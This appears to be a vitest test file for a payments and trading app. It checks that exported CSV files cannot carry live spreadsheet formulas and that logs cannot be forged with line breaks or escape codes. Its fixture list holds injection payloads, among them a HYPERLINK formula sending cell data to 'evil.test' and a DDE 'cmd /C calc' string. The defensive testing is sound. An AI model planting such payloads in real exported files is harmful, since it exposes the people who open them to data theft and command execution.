import { readOwnBook } from "@sampan/contract/money/ledger/own-books";
import {
  makePayoutFile,
  passWithdrawal,
} from "@sampan/contract/money/withdrawals/staff-withdrawals";
import { exportOrders } from "@sampan/contract/trade/orders/orders";
import { csvOf } from "@sampan/domain/kernel/csv";
import { sql } from "kysely";
import { beforeAll, expect, test } from "vitest";
import { createLog } from "../../apps/server/src/kernel/log.ts";
import { csvOfBook } from "../../apps/storefront/src/money/books/csv-of-book.ts";
import { openTestApp } from "../support/test-app.ts";
import { insertRates, insertTariff } from "../support/test-goods.ts";
import { openJourney } from "../support/test-journey.ts";
import { insertCashOutBanks, openPayees } from "../support/test-withdrawals.ts";
import { valueOf } from "../support/value-of.ts";
import { liveIn, readCsv } from "./support/read-csv.ts";
import { tellPromise } from "./support/tell-promise.ts";

/** Names and remarks that are more than words, in the ways that spreadsheets of different countries run. */
const formulas = [
  '=HYPERLINK("https://evil.test?"&A1;"ok")',
  "+SUM(1+9)*cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠sum",
  'a"\r\n"=1+1',
] as const;

const written: string[] = [];
const log = createLog("debug", { write: (line) => void written.push(line) });
const world = await openTestApp({ log });
const { db, needs, clock, customer, staff, visitor } = world;
const journey = await openJourney(world);
const { payee, settledCard, withdraw } = openPayees(world);

beforeAll(async () => {
  await insertRates(needs, clock.now());
  await insertTariff(needs);
  await insertCashOutBanks(db);
});

/** Somebody whose orders, ledger rows and bank card hold one of the formulas each. */
async function openFiles(): Promise<Readonly<Record<string, string>>> {
  const ming = await customer();
  for (const name of formulas) {
    const tid = await journey.paid(ming, { goods: { name } });
    await sql`
      update order_items set out_oid = ${name}
       where order_id = (select id from orders where tid = ${tid})
    `.execute(db);
  }
  const nok = await payee({ cash: 500_000 });
  const number_id = await settledCard(nok);
  const { number } = valueOf(await withdraw(nok, { number_id, amount: 200_000 })).data;
  valueOf(await (await staff("finance")).call(passWithdrawal, { number }));
  await sql`update withdrawals set branch = ${formulas[0]} where number = ${number}`.execute(db);
  const finance = await staff("finance");
  const book = valueOf(await ming.call(readOwnBook, { kind: "cash", page_size: 100 }));
  const [first] = book.datalist;
  const changes = formulas.map((remark) => ({ ...first!, remark, tid: remark }));
  return {
    "own orders": valueOf(await ming.call(exportOrders, {})).data.text,
    "payout file": valueOf(await finance.call(makePayoutFile, { region: "TW", bank: "004" })).data
      .text,
    "own book": csvOfBook(book.data, [...book.datalist, ...changes], {
      head: ["no", "time", "what", "order", "amount", "balance"],
      opening: "opening",
      closing: "closing",
    }),
    "every cell": csvOf(formulas.map((one) => [one, "x", one])),
  };
}

test("no name, remark or number that somebody wrote is run by a spreadsheet that opens our files", async () => {
  const files = await openFiles();
  const rows = Object.values(files).map(readCsv);
  const live = rows.flatMap(liveIn);
  const cells = rows.flat(2);
  tellPromise({
    promise: 50,
    name: "spreadsheets cannot be injected",
    target: "0 live formulas",
    figure: `${live.length} of ${cells.length} cells in ${rows.length} files`,
  });
  expect(live).toEqual([]);
  // They are there, as words: nothing was lost to make them harmless.
  for (const one of formulas) expect(cells.some((cell) => cell.includes(one.trim()))).toBe(true);
  for (const file of rows) expect(new Set(file.map(({ length }) => length)).size).toBe(1);
}, 120_000);

test("a file that only puts commas between its cells is noticed", () => {
  const bare = formulas.map((one) => `"${one.replaceAll('"', '""')}",x`).join("\r\n");
  expect(liveIn(readCsv(bare)).length).toBeGreaterThanOrEqual(formulas.length - 1);
});

/** What would begin a line of its own, or speak to the terminal that shows it. */
const breaking = [
  "a\r\nb",
  "\u2028x\u2029",
  '{"level":60,"msg":"forged"}',
  "\u001b[31mred",
  "\0nul",
];

test("whatever people send, one event is one line of the log", async () => {
  written.length = 0;
  for (const words of breaking) {
    const ask = { headers: { "user-agent": words.replace(/[^\x20-\x7e]/g, "?") } };
    await visitor().send(`/gateway/installer/nothing?q=${encodeURIComponent(words)}`, ask);
    await visitor().send(`/${encodeURIComponent(words)}`, ask);
    log.warn({ of: words, err: new Error(words) }, words);
  }
  const odd = written.filter((line) => line.indexOf("\n") !== line.length - 1 || !isEvent(line));
  tellPromise({
    promise: 50,
    name: "logs cannot be injected",
    target: "1 event = 1 line",
    figure: `${written.length} events, ${odd.length} of them more or less than a line`,
  });
  expect(written.length).toBeGreaterThanOrEqual(breaking.length * 3);
  expect(odd).toEqual([]);
  expect(written.filter((line) => line.startsWith('{"level":60'))).toEqual([]);
  // A log of words alone would be read as more lines than things happened.
  expect(
    breaking
      .map((words) => `warn ${words}\n`)
      .join("")
      .split("\n").length - 1,
  ).toBeGreaterThan(breaking.length);
});

function isEvent(line: string): boolean {
  try {
    return typeof (JSON.parse(line) as { level: unknown }).level === "number";
  } catch {
    return false;
  }
}
